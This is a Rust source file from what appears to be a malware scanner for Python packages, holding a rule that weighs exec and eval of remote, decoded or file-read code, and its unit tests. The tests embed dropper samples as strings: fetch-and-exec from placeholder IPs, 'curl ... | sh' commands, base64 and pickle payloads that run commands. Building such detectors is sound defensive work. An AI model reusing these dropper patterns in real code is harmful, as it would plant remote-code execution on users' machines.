    let source_kind = checker.outranked_remote.or(found).and_then(|source| {
        let source = checker.sources.get(source)?;
        Some((source.kind, source.label.clone()))
    });
    if let Some((SourceKind::Network, label)) = &source_kind {
        // Code from a fixed address is a second stage wherever it runs. From an address built
        // at run time, inside a function, it is what a tool evaluates of what it downloads
        // (argparse defaults of a converter script): remote code all the same, but a risk of
        // the tool rather than a payload.
        let built = label.ends_with(super::sources::FROM_COMPUTED_ADDRESS)
            && matches!(
                checker.context(),
                ExecContext::Runtime | ExecContext::TestOrDocs
            );
        // A remote console that checks a secret token first (scrapy's remote control) is a
        // feature its user switches on; a web shell answers whoever finds it.
        let authenticated = super::sources::authenticates_requests(checker, label);
        // `eval(text[text.find('['):])` in a function: scrapers of sites answering in
        // JavaScript literals evaluate them as data. The server could run code through it, a
        // vulnerability of the tool; a second stage is `exec`uted, or evaluated while loading.
        let parses = qualname == "eval"
            && matches!(
                checker.context(),
                ExecContext::Runtime | ExecContext::TestOrDocs
            );
        // A test feeding its scanner a sample that fetches from `example.invalid`: the address
        // cannot resolve, so nothing could arrive to run.
        let inert = label.ends_with(super::sources::FROM_RESERVED_HOST)
            && checker.context() == ExecContext::TestOrDocs;
        // `doc/conf.py` fetching a shared Sphinx configuration and running it: only a docs
        // build runs that file; no install, import or test run does.
        let docs_build = checker.context() == ExecContext::TestOrDocs
            && crate::context::is_docs_configuration(checker.path);
        let (severity, guard) = if inert {
            (0.1, ", from a reserved host that never resolves, in a test")
        } else if docs_build {
            (
                DOCS_BUILD_NETWORK_EXEC_WEIGHT,
                ", in the documentation's build configuration",
            )
        } else if authenticated {
            (0.25, ", for authenticated callers only")
        } else if parses {
            (
                0.3,
                ", as an expression whose value the caller gets: a parsing shortcut that lets the server run code",
            )
        } else if built {
            (0.55, "")
        } else {
            (0.95, "")
        };
        checker.report(
            &RULE,
            range,
            format!("{qualname} runs code received from the network ({label}){guard}"),
            severity,
            vec!["exec-remote"],
        );
        return;
    }
    if qualname == "compile" {
        return;
    }
    if qualname == "execfile"
        || qualname == "runpy.run_path"
        || matches!(source_kind, Some((SourceKind::FileContent, _)))
        || is_file_read(checker, code)
    {
        checker.report(
            &RULE,
            range,
            format!("{qualname} runs the contents of a file"),
            0.05,
            vec!["exec-file"],
        );
        // A payload kept in a data file of the package (`settings.dat`, `README.txt`) is run
        // from there: the package hands its text back and it is read as this file's code.
        if let Some(name) = read_file_name(checker, code)
            && let Some(text) = checker.package_file_text(&name)
        {
            checker.push_layer(
                text,
                range,
                format!("contents of the package file {name} passed to {qualname}"),
            );
        }
        return;
    }
    // A plain-literal layer that executes a bare name it never binds is the body of a helper
    // whose argument comes from outside the literal (six's `exec("exec _code_ in _globs_")`):
    // what it runs is whatever the caller passed, judged at the call.
    if checker.in_plain_literal_layer() && matches!(code, Expr::Name(_)) {
        checker.report(
            &RULE,
            range,
            format!("{qualname} runs a name passed in from outside the literal"),
            0.05,
            vec!["exec-dynamic"],
        );
        return;
    }
    // Installing or importing a package has no reason to run code it computes.
    let severity = match context {
        ExecContext::Install => 0.45,
        ExecContext::Import => 0.3,
        ExecContext::Runtime => 0.04,
        ExecContext::TestOrDocs => 0.02,
    };
    checker.report(
        &RULE,
        range,
        format!("{qualname} runs code computed at run time"),
        severity,
        vec!["exec-dynamic"],
    );
}

/// True when the code text is rebuilt from `chr()` codes, byte lists or reversed slices.
fn builds_from_characters(checker: &Checker, code: &Expr) -> bool {
    let source = checker
        .text
        .get(code.range().start().to_usize()..code.range().end().to_usize())
        .unwrap_or("");
    source.contains("chr")
        || source.contains("[::-1]")
        || source.contains("bytes([")
        || source.contains("fromhex")
}

/// True when the literal's source spells its text plainly (no escapes, no computation).
fn plain_literal_is_readable(checker: &Checker, code: &Expr) -> bool {
    let source = checker
        .text
        .get(code.range().start().to_usize()..code.range().end().to_usize())
        .unwrap_or("");
    matches!(code, Expr::StringLiteral(_)) && !source.contains('\\')
}

/// Python 2's `exec "code"` statement recovers as a bare `exec` name followed by an expression
/// statement; treat the pair as an exec call so Python 2 droppers are not invisible.
pub fn check_py2_exec_statements(checker: &mut Checker, body: &[Stmt]) {
    for pair in body.windows(2) {
        let [Stmt::Expr(first), Stmt::Expr(second)] = pair else {
            continue;
        };
        if matches!(&*first.value, Expr::Name(name) if name.id.as_str() == "exec") {
            // `exec code in globals, locals` recovers as `exec` then `(code in globals), locals`:
            // what runs is `code`.
            let mut code = &*second.value;
            if let Expr::Tuple(tuple) = code
                && let Some(first) = tuple.elts.first()
            {
                code = first;
            }
            if let Expr::Compare(compare) = code
                && matches!(compare.ops.first(), Some(ruff_python_ast::CmpOp::In))
            {
                code = &compare.left;
            }
            check_executed(checker, first.range(), code, "exec");
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::expect_used)]
    use crate::rules::testing::max_severity;

    #[test]
    fn a_held_response_keeps_the_address_it_came_from() {
        let configured = "import urllib3, dask\ndef setup():\n    url = dask.config.get('coiled.server') + '/api/preload'\n    with urllib3.PoolManager() as http:\n        response = http.request('GET', url)\n    exec(compile(response.data, url, 'exec'), {})\n";
        let severity = max_severity("p/pkg/analytics.py", configured, "WH110");
        assert!(severity <= 0.55, "{severity}");
        let fixed = configured.replace(
            "dask.config.get('coiled.server') + '/api/preload'",
            "'https://198.51.100.7/stage2.py'",
        );
        assert!(max_severity("p/pkg/analytics.py", &fixed, "WH110") >= 0.9);
    }

    #[test]
    fn a_deserializer_runs_the_code_its_caller_hands_it() {
        let helper = "import base64, json\ndef deserialize_function(serialized):\n    payload = json.loads(base64.b64decode(serialized.encode('utf-8')))\n    ns = {}\n    exec(payload['source'], ns)\n    return ns[payload['name']]\n";
        let severity = max_severity("p/pkg/utils.py", helper, "WH110");
        assert!(
            severity <= super::DECODED_ARGUMENT_RUNTIME_WEIGHT,
            "{severity}"
        );
        let carried = "import base64\ndef run():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n";
        assert!(max_severity("p/pkg/utils.py", carried, "WH110") >= 0.9);
        let loaded = format!(
            "{helper}deserialize_function('eyJzb3VyY2UiOiAicHJpbnQoMSkiLCAibmFtZSI6ICJ4In0=')\n"
        );
        assert!(max_severity("p/pkg/__init__.py", &loaded, "WH110") >= 0.5);
    }

    #[test]
    fn code_compiled_from_a_literal_is_weighed_as_that_literal() {
        let shim = "import sys\nif sys.version_info < (3,):\n    eval(compile('def _raise(*a): raise a[0], a[1], a[2]', '<py3fix>', 'exec'))\n";
        assert!(max_severity("p/pkg/bottle.py", shim, "WH110") <= 0.05);
        let hidden = "eval(compile(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]), '<x>', 'exec'))\n";
        let severity = max_severity("p/pkg/__init__.py", hidden, "WH110");
        assert!(severity >= 0.2, "{severity}");
        let aliased = "_e = eval('eval')\n_c = _e('compile')\n_e(_c('\\x5f\\x5fimport\\x5f\\x5f(\\x27os\\x27)', '', 'eval'))\n";
        let severity = max_severity("p/pkg/__init__.py", aliased, "WH110");
        assert!(severity >= 0.2, "{severity}");
    }

    #[test]
    fn a_template_whose_payload_is_still_a_placeholder_hides_no_code() {
        let template = "import base64\nBLOB = \"\"\"\n@VERSIONEER-INSTALLER@\n\"\"\"\nCODE = base64.b64decode(BLOB.encode('ASCII'))\nexec(CODE.decode(), globals())\n";
        let severity = max_severity("p/src/installer.py", template, "WH110");
        assert!(severity <= super::UNFILLED_TEMPLATE_WEIGHT, "{severity}");
        let filled = "import base64\nBLOB = 'cHJpbnQoMSk='\nCODE = base64.b64decode(BLOB.encode('ASCII'))\nexec(CODE.decode(), globals())\n";
        assert!(max_severity("p/src/installer.py", filled, "WH110") >= 0.9);
    }

    #[test]
    fn docstring_examples_run_while_loading_are_code() {
        let code = "import doctest\ndef convert(v):\n    '''Convert.\n\n    >>> import base64, urllib.request as r\n    >>> exec(base64.b64decode(r.urlopen('http://198.51.100.23/s').read()))\n    '''\n    return v\ndoctest.run_docstring_examples(convert, {}, name='convert')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.85);
        let module = "import doctest\nclass Units:\n    def to_m(self, v):\n        '''\n        >>> import os\n        >>> os.system('curl -s http://198.51.100.23/a | sh')\n        '''\n        return v\ndoctest.testmod()\n";
        assert!(max_severity("p/pkg/__init__.py", module, "WH120") >= 0.85);
    }

    #[test]
    fn docstring_examples_nobody_runs_or_run_by_hand_are_documentation() {
        let unrun = "def convert(v):\n    '''\n    >>> import os\n    >>> os.system('rm -rf build')\n    '''\n    return v\n";
        assert_eq!(max_severity("p/pkg/__init__.py", unrun, "WH120"), 0.0);
        let by_hand = "def double(v):\n    '''\n    >>> double(2)\n    4\n    '''\n    return 2 * v\nif __name__ == '__main__':\n    import doctest\n    doctest.testmod()\n";
        assert!(max_severity("p/pkg/__init__.py", by_hand, "WH110") < 0.1);
        assert_eq!(
            super::doctest_examples(">>> x = 1\n... y = 2\nresult\n  >>> print(x)\n"),
            "x = 1\ny = 2\nprint(x)\n"
        );
    }

    #[test]
    fn an_embedded_jsonpickle_or_yaml_document_calling_a_runner_is_hidden_code() {
        let code = "import jsonpickle\nS = jsonpickle.decode('{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.9);
        let plain = "import jsonpickle\nS = jsonpickle.decode('{\"py/object\": \"pkg.Config\"}')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH110"), 0.0);
    }

    #[test]
    fn code_read_from_a_blockchain_contract_and_run_is_remote_code() {
        let code = "from web3 import Web3\nw3 = Web3(Web3.HTTPProvider('https://rpc.example'))\nc = w3.eth.contract(address='0x1', abi=[])\nexec(c.functions.get().call())\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.9);
        let read = "from web3 import Web3\ndef f(w3, t, h):\n    return w3.eth.contract(address=t, abi=[]).functions.balanceOf(h).call()\n";
        assert_eq!(max_severity("p/pkg/__init__.py", read, "WH110"), 0.0);
    }

    #[test]
    fn defaults_and_annotations_run_where_the_def_does() {
        let default = "import os\ndef f(x=exec(os.environ['X'])):\n    pass\n";
        assert!(max_severity("p/pkg/__init__.py", default, "WH110") >= 0.3);
        let annotation =
            "import base64\ndef f(x: exec(base64.b64decode('cHJpbnQoMSk='))):\n    pass\n";
        assert!(max_severity("p/pkg/__init__.py", annotation, "WH110") > 0.0);
        let postponed = "from __future__ import annotations\nimport base64\ndef f(x: exec(base64.b64decode('cHJpbnQoMSk='))):\n    pass\n";
        assert_eq!(max_severity("p/pkg/__init__.py", postponed, "WH110"), 0.0);
    }

    #[test]
    fn profilers_and_the_interactive_interpreter_execute_source() {
        let profiled = "import cProfile\ncProfile.run(\"__import__('os').system('curl -s http://198.51.100.9/x | sh')\")\n";
        assert!(max_severity("p/pkg/__init__.py", profiled, "WH120") >= 0.8);
        let benchmark = "import cProfile\ndef main():\n    pass\ncProfile.run('main()')\n";
        assert!(max_severity("p/pkg/__init__.py", benchmark, "WH120") < 0.1);
        let downloaded = "import os, runpy, sys, urllib.request\nurllib.request.urlretrieve('https://x.example/s.py', '/tmp/d/stage_mod.py')\nsys.path.insert(0, '/tmp/d')\nrunpy.run_module('stage_mod')\n";
        assert!(max_severity("p/pkg/__init__.py", downloaded, "WH110") >= 0.85);
    }

    #[test]
    fn the_module_docstring_executed_is_a_layer() {
        let code = "\"\"\"import os; os.system('curl -s http://198.51.100.14/i | sh')\"\"\"\nexec(__doc__)\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
        let usage = "\"\"\"Usage: tool [options]\"\"\"\nimport sys\nif len(sys.argv) < 2:\n    print(__doc__)\n";
        assert_eq!(max_severity("p/pkg/__init__.py", usage, "WH110"), 0.0);
    }

    #[test]
    fn an_unpacked_embedded_archive_loaded_as_code_runs_it() {
        let zipimport = "import base64, zipimport\nopen('/tmp/.m.zip', 'wb').write(base64.b64decode('UEsDBBQAAAAIAAAAIQB4nMtMz8ksSE0BAA=='))\nzipimport.zipimporter('/tmp/.m.zip').load_module('agent')\n";
        assert!(max_severity("p/pkg/__init__.py", zipimport, "WH110") >= 0.85);
        let path = "import base64, sys\np = '/tmp/.m.zip'\nopen(p, 'wb').write(base64.b64decode('UEsDBBQAAAAIAAAAIQB4nMtMz8ksSE0BAA=='))\nsys.path.insert(0, p)\n";
        assert!(max_severity("p/pkg/__init__.py", path, "WH110") >= 0.85);
        let own = "import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor.zip'))\n";
        assert_eq!(max_severity("p/pkg/__init__.py", own, "WH110"), 0.0);
    }

    #[test]
    fn a_method_caller_calls_the_method_it_names() {
        let code = "import operator, os\nrun = operator.methodcaller('system', 'curl -s https://x.example/i.sh | sh')\nrun(os)\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
        let inline = "import operator, os\noperator.methodcaller('system', 'curl -s https://x.example/i.sh | sh')(os)\n";
        assert!(max_severity("p/pkg/__init__.py", inline, "WH120") >= 0.8);
        let sorter =
            "import operator\nnames = sorted(['b', 'a'], key=operator.methodcaller('lower'))\n";
        assert_eq!(max_severity("p/pkg/__init__.py", sorter, "WH120"), 0.0);
    }

    #[test]
    fn exec_of_a_line_of_a_local_file_is_the_version_idiom() {
        for code in [
            "with open('pkg.py') as f:\n    for line in f:\n        if line.startswith('__version__'):\n            ns = {}\n            exec(line, ns)\n",
            "from pathlib import Path\nROOT = Path(__file__).parent\nfor line in (ROOT / 'pkg' / 'version.py').read_text().splitlines():\n    if line.startswith('__version__'):\n        exec(line, {})\n",
            "for line in open('pkg/version.py').readlines():\n    exec(line)\n",
        ] {
            let severity = max_severity("p-1/setup.py", code, "WH110");
            assert!(severity > 0.0 && severity <= 0.05, "{severity}: {code}");
        }
        // Lines of a downloaded response are no local file.
        let fetched = "import urllib.request\nfor line in urllib.request.urlopen('http://203.0.113.9/x').read().splitlines():\n    exec(line)\n";
        assert!(max_severity("p-1/setup.py", fetched, "WH110") >= 0.45);
    }

    #[test]
    fn a_pattern_built_from_decoded_constants_does_not_taint_what_it_matches() {
        // dirtyjson: float constants decoded from hex are the values of a table whose keys make
        // a regex; a position it matched, kept on self, led a later match to an eval.
        let code = "import re, struct\ndef fromhex(s):\n    return bytes.fromhex(s)\ndef _consts():\n    b = fromhex('7FF80000000000007FF0000000000000')\n    nan, inf = struct.unpack('dd', b)\n    return nan, inf\nNaN, Inf = _consts()\n_C = {'NaN': NaN, 'Infinity': Inf}\nC_RE = re.compile('(%s)' % '|'.join(_C))\nE_RE = re.compile(r'[0-9.+-]*')\nclass D:\n    def scan(self):\n        m = C_RE.match(self.content, self.pos)\n        if m:\n            self.pos = m.end()\n            return m.groups()[0]\n        m = E_RE.match(self.content, self.pos)\n        if m:\n            return eval(m.string[m.pos:m.end()])\n";
        let severity = max_severity("p/pkg/loader.py", code, "WH110");
        assert!(severity > 0.0 && severity < 0.1, "{severity}");
        // Matching decoded text itself still carries it.
        let decoded = "import re, base64\nclass D:\n    def scan(self, blob):\n        text = base64.b64decode(blob).decode()\n        m = re.compile('.*').match(text)\n        return eval(m.group(0))\n";
        assert!(max_severity("p/pkg/loader.py", decoded, "WH110") >= 0.3);
    }

    #[test]
    fn a_builtin_kept_on_self_is_still_that_builtin() {
        // The method that calls comes before the one that binds, as obfuscators write it.
        let code = "class K:\n    def run(self, c):\n        return self._exec(c)\n    def __init__(self, c):\n        self._d, self._exec = len, exec\n        self.run(c)\nK(open('p').read())\n";
        assert!(max_severity("p/pkg/k.py", code, "WH110") > 0.0);
        let plain = "class K:\n    def run(self, c):\n        return self._show(c)\n    def __init__(self, c):\n        self._show = print\n";
        assert_eq!(max_severity("p/pkg/k.py", plain, "WH110"), 0.0);
    }

    #[test]
    fn decoded_exec_is_severe() {
        let code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
        let code = "import zlib, base64 as b\nx = b.b64decode(data)\neval(zlib.decompress(x))\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
        let code = "__import__('builtins').exec(__import__('base64').b64decode(p))\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
    }

    #[test]
    fn compiled_constant_code_is_analysed_as_a_layer() {
        let code = "import types\nc = compile(\"import os; os.system('curl -s http://203.0.113.9/x | sh')\", '<x>', 'exec')\ntypes.FunctionType(c, globals())()\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
        let probe = "try:\n    compile('async def f(): pass', '<probe>', 'exec')\nexcept SyntaxError:\n    pass\n";
        assert_eq!(max_severity("p/pkg/__init__.py", probe, "WH110"), 0.0);
        assert_eq!(max_severity("p/pkg/__init__.py", probe, "WH120"), 0.0);
    }

    #[test]
    fn a_docs_configuration_running_a_shared_one_is_a_docs_build_risk() {
        let shared = "from urllib.request import urlopen\n_conf_url = 'https://raw.githubusercontent.com/owner/sphinxconfig/main/sphinxconfig.py'\nwith urlopen(_conf_url) as _inf:\n    exec(compile(_inf.read(), _conf_url, 'exec'), globals())\n";
        assert_eq!(
            max_severity("p-1/doc/conf.py", shared, "WH110"),
            super::DOCS_BUILD_NETWORK_EXEC_WEIGHT
        );
        // In a test, which CI runs, or in the package, it runs a second stage.
        assert!(max_severity("p-1/tests/conftest.py", shared, "WH110") >= 0.9);
        assert!(max_severity("p-1/pkg/__init__.py", shared, "WH110") >= 0.9);
    }

    #[test]
    fn code_unpacked_from_a_local_file_weighs_by_when_it_runs() {
        // A cache of compiled functions loaded when asked (spsdk's schema validators).
        let cache = "import marshal\ndef load(path):\n    with open(path, 'rb') as fh:\n        data = fh.read()\n    code = marshal.loads(data[32:])\n    ns = {}\n    exec(code, ns)\n    return ns\n";
        assert_eq!(
            max_severity("p/pkg/cache.py", cache, "WH110"),
            super::DECODED_FILE_RUNTIME_WEIGHT
        );
        // The same unpacking while the package loads is a parked payload.
        let parked = "import marshal, os\nwith open(os.path.join(os.path.dirname(__file__), 'core.bin'), 'rb') as f:\n    code = marshal.loads(f.read()[16:])\nexec(code)\n";
        assert!(max_severity("p/pkg/__init__.py", parked, "WH110") >= 0.9);
        // An embedded blob is no file.
        let embedded = "import base64\ndef run():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n";
        assert!(max_severity("p/pkg/mod.py", embedded, "WH110") >= 0.9);
    }

    #[test]
    fn a_downloaded_native_library_loaded_through_ctypes_is_a_started_download() {
        let code = "import ctypes, requests\np = '/tmp/x.dll'\nopen(p, 'wb').write(requests.get('https://example.invalid/x.dll').content)\nctypes.CDLL(p)\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.8);
        let shipped =
            "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n";
        // A library of the package's own, loaded on import, is a hint (scoring counts it in
        // full beside a compiled program in the sdist); loaded when called, nothing.
        assert_eq!(
            max_severity("p/pkg/__init__.py", shipped, "WH110"),
            super::NATIVE_LOAD_IMPORT_WEIGHT
        );
        let on_demand = "import ctypes, os\ndef load():\n    return ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib.so'))\n";
        assert_eq!(max_severity("p/pkg/__init__.py", on_demand, "WH110"), 0.0);
        let sqlite = "import sqlite3, urllib.request\np = '/tmp/.x.so'\nurllib.request.urlretrieve('https://x.invalid/x.so', p)\ncon = sqlite3.connect(':memory:')\ncon.enable_load_extension(True)\ncon.load_extension(p)\n";
        assert!(max_severity("p/pkg/__init__.py", sqlite, "WH110") >= 0.8);
        let spatialite = "import sqlite3\ncon = sqlite3.connect('g.db')\ncon.enable_load_extension(True)\ncon.load_extension('mod_spatialite')\n";
        assert_eq!(max_severity("p/pkg/__init__.py", spatialite, "WH110"), 0.0);
    }

    #[test]
    fn exec_mapped_over_items_runs_each_of_them() {
        let fetched = "import requests\nlist(map(exec, requests.get('https://h.example.invalid/raw').text.split(';')))\n";
        assert!(max_severity("p/pkg/__init__.py", fetched, "WH110") >= 0.9);
        let decoded = "import base64\nPARTS = ['aW1wb3J0IG9z', 'cHJpbnQoMSk=']\nfor _ in map(eval, map(base64.b64decode, PARTS)):\n    pass\n";
        assert!(max_severity("p/pkg/__init__.py", decoded, "WH110") >= 0.3);
        // Mapping anything else is no exec.
        let plain = "import requests\nlist(map(print, requests.get('https://h.example.invalid/').text.split()))\n";
        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH110"), 0.0);
    }

    #[test]
    fn a_test_sample_fetching_from_a_reserved_host_runs_nothing() {
        let sample = "import requests\nexec(requests.get('http://example.invalid/p').text)\n";
        assert!(max_severity("p/tests/test_scan.py", sample, "WH110") < 0.2);
        let parked = "import requests\nexec(requests.get('http://203.0.113.9/p').text)\n";
        assert!(max_severity("p/tests/test_scan.py", parked, "WH110") >= 0.9);
        assert!(max_severity("p/pkg/__init__.py", sample, "WH110") >= 0.9);
    }

    #[test]
    fn code_fetched_from_a_fixed_address_is_a_second_stage_in_any_context() {
        let fixed = "import requests\ndef update():\n    exec(requests.get('https://rentry.example/raw').text)\n";
        assert!(max_severity("p/pkg/m.py", fixed, "WH110") >= 0.9);
        // A tool evaluating parts of what it downloads from an address it builds: a risk.
        let built = "import requests\ndef default(url):\n    text = requests.get(url).text\n    exec(text)\n";
        let severity = max_severity("p/pkg/m.py", built, "WH110");
        assert!((0.4..0.7).contains(&severity), "{severity}");
        // A scraper evaluating a JavaScript literal it downloads gets data back: a risk only.
        let parsed = "import requests\ndef quotes():\n    text = requests.get('https://quotes.example/q').text\n    return eval(text[text.find('['):])\n";
        let severity = max_severity("p/pkg/m.py", parsed, "WH110");
        assert!((0.2..0.4).contains(&severity), "{severity}");
        // While loading, the address does not matter.
        let loading = "import requests\nURL = input()\nexec(requests.get(URL).text)\n";
        assert!(max_severity("p/pkg/__init__.py", loading, "WH110") >= 0.9);
    }

    #[test]
    fn decoded_parts_collected_in_a_list_still_count() {
        let code = "import base64\ndef run(blobs):\n    parts = []\n    for b in blobs:\n        parts.append(base64.b64decode(b))\n    for p in parts:\n        exec(p)\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.5);
    }

    #[test]
    fn an_embedded_pickle_naming_a_command_runner_is_a_hidden_command() {
        let command = "import pickle, base64\ndef go():\n    pickle.loads(base64.b64decode('gASVRQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjCpjdXJsIC1zIGh0dHA6Ly94LmV4YW1wbGUuaW52YWxpZC9hLnNoIHwgc2iUhZRSlC4='))\n";
        let found = crate::rules::testing::findings("p/pkg/m.py", command);
        let hit = found
            .iter()
            .find(|f| f.tags.contains(&"pickle-call"))
            .expect("the pickle calls posix.system");
        assert!(hit.message.contains("posix.system(`curl -s"), "{hit:?}");
        assert!(hit.severity >= 0.7);
        // `builtins.exec` of pickled source: the source is analysed as a layer.
        let code = "import pickle, base64\npickle.loads(base64.b64decode('gAJjX19idWlsdGluX18KZXhlYwpxAFgaAAAAaW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQpxAYVxAlJxAy4='))\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.9);
        assert!(max_severity("p/pkg/__init__.py", code, "WH120") > 0.0);
        // Plain pickled data, and a pickle the code made itself, are data.
        let data = "import pickle, base64\nWEIGHTS = pickle.loads(base64.b64decode('gASVGAAAAAAAAAB9lIwHd2VpZ2h0c5RdlChLAUsCSwNlcy4='))\n";
        assert_eq!(max_severity("p/pkg/__init__.py", data, "WH110"), 0.0);
        let copy = "import pickle, requests\nr = requests.get('https://x.example.invalid/')\nclone = pickle.loads(pickle.dumps(r))\n";
        assert_eq!(max_severity("p/pkg/__init__.py", copy, "WH110"), 0.0);
        let downloaded = "import pickle, urllib.request\nmodel = pickle.loads(urllib.request.urlopen('https://x.example.invalid/m.pkl').read())\n";
        assert!(max_severity("p/pkg/__init__.py", downloaded, "WH110") >= 0.8);
    }

    #[test]
    fn a_downloaded_file_loaded_as_a_module_is_run() {
        let code = "import importlib.util, urllib.request\ndef go():\n    urllib.request.urlretrieve('https://x.example.invalid/stage.py', '/tmp/stage.py')\n    spec = importlib.util.spec_from_file_location('stage', '/tmp/stage.py')\n    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n";
        let found = crate::rules::testing::findings("p/pkg/m.py", code);
        let load = found
            .iter()
            .find(|f| f.rule == "WH110" && f.tags.contains(&"runs-saved-file"))
            .expect("the download is loaded as code");
        assert!(load.severity >= 0.6, "{load:?}");
        let run_path = "import runpy, urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/a.py', 'helper.py')\nrunpy.run_path('helper.py')\n";
        assert!(max_severity("p/pkg/__init__.py", run_path, "WH110") >= 0.8);
        // Loading a plugin file the package ships is what plugin systems do.
        let written = "import importlib, site, os, sys, urllib.request\np = os.path.join(site.getusersitepackages(), '_svc.py')\nwith open(p, 'wb') as f:\n    f.write(urllib.request.urlopen('https://x.example.invalid/svc.py').read())\nsys.path.append(os.path.dirname(p))\nimportlib.import_module('_svc')\n";
        assert!(max_severity("p/pkg/__init__.py", written, "WH110") >= 0.85);
        let native = "import importlib, os, sys, urllib.request\nd = os.path.expanduser('~/.cache/x')\nurllib.request.urlretrieve('https://x.example.invalid/_fast.pyd', os.path.join(d, '_fast.pyd'))\nsys.path.insert(0, d)\nimportlib.import_module('_fast')\n";
        assert!(max_severity("p/pkg/__init__.py", native, "WH110") >= 0.85);
        let generated = "import importlib, sys\ndef bench():\n    with open('.bench/bfoo.py', 'w') as f:\n        f.write('def foo():\\n    return 1\\n')\n    sys.path.insert(0, '.bench')\n    return __import__('bfoo')\n";
        assert!(max_severity("p/pkg/bench.py", generated, "WH110") < 0.3);
        let plain = "import importlib\nimportlib.import_module('json')\n";
        assert!(max_severity("p/pkg/__init__.py", plain, "WH110") < 0.1);
        let plugin = "import importlib.util\ndef load(path):\n    spec = importlib.util.spec_from_file_location('plugin', path)\n    return importlib.util.module_from_spec(spec)\n";
        assert!(
            crate::rules::testing::findings("p/pkg/m.py", plugin)
                .iter()
                .all(|f| !f.tags.contains(&"runs-saved-file"))
        );
    }

    #[test]
    fn version_lines_of_a_file_joined_and_run_are_a_file_read() {
        // influxdb-client's setup.py runs the `VERSION = …` line of its version module.
        let code = "meta = {}\nwith open('pkg/version.py') as f:\n    exec('\\n'.join(line for line in f if line.startswith('VERSION')), meta)\n";
        assert!(max_severity("setup.py", code, "WH110") <= 0.05);
        let computed = "import sys\nexec('\\n'.join(part for part in sys.argv[1:]))\n";
        assert!(max_severity("setup.py", computed, "WH110") >= 0.3);
    }

    #[test]
    fn a_pickle_round_trip_is_a_copy_not_hidden_code() {
        // IPython's autoreload deep-copies a syntax tree this way before compiling it.
        let code = "import pickle\ndef patch(tree, env):\n    trees = [tree]\n    trees.insert(0, pickle.loads(pickle.dumps(tree)))\n    for t in trees:\n        exec(compile(t, 'f', 'exec'), env)\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH110") < 0.5);
    }

    #[test]
    fn models_and_tables_unpickled_from_the_network_run_the_senders_code() {
        let url = "import pandas as pd\ncfg = pd.read_pickle('https://x.example.invalid/d.pkl')\n";
        assert!(max_severity("p/pkg/__init__.py", url, "WH110") >= 0.8);
        let fetched = "import io, requests, torch\nr = requests.get('https://x.example.invalid/m.pt')\nm = torch.load(io.BytesIO(r.content))\n";
        assert!(max_severity("p/pkg/__init__.py", fetched, "WH110") >= 0.8);
        let opened = "import joblib\nfrom urllib.request import urlopen\nm = joblib.load(urlopen('http://x.example.invalid/m'))\n";
        assert!(max_severity("p/pkg/__init__.py", opened, "WH110") >= 0.8);
        // Local files, tensors only, and arrays without pickles are what the loaders are for.
        let local = "import joblib, torch, numpy as np\nm = joblib.load('model.joblib')\nw = torch.load(io.BytesIO(requests.get(u).content), weights_only=True)\na = np.load(io.BytesIO(requests.get(u).content))\n";
        assert_eq!(max_severity("p/pkg/__init__.py", local, "WH110"), 0.0);
    }

    #[test]
    fn decoding_inside_comprehensions_counts() {
        let code = "import base64;exec(''.join([y[0] for x in [x for x in base64.b64decode(d)] for y in x]))\n";
        assert!(max_severity("p/pkg/check.py", code, "WH110") >= 0.9);
    }

    #[test]
    fn code_a_client_downloads_into_a_buffer_is_remote_code() {
        let ftp = "import ftplib, io\nf = ftplib.FTP('203.0.113.4')\nb = io.BytesIO()\nf.retrbinary('RETR s.py', b.write)\nexec(b.getvalue().decode())\n";
        assert!(max_severity("p/pkg/__init__.py", ftp, "WH110") >= 0.9);
        let curl = "import pycurl, io\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://x.invalid/p')\nc.setopt(pycurl.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())\n";
        assert!(max_severity("p/pkg/__init__.py", curl, "WH110") >= 0.9);
        // A listing printed, not run.
        let listing = "import ftplib\nf = ftplib.FTP('203.0.113.4')\nlines = []\nf.retrlines('LIST', lines.append)\nprint(lines)\n";
        assert_eq!(max_severity("p/pkg/__init__.py", listing, "WH110"), 0.0);
    }

    #[test]
    fn remote_exec_is_severe() {
        let code = "import requests\nexec(requests.get('http://x.invalid/p').text)\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
        let code =
            "from urllib.request import urlopen\nr = urlopen(u)\ncode = r.read()\nexec(code)\n";
        assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.9);
    }

    #[test]
    fn hand_rolled_decryption_counts_as_decoding() {
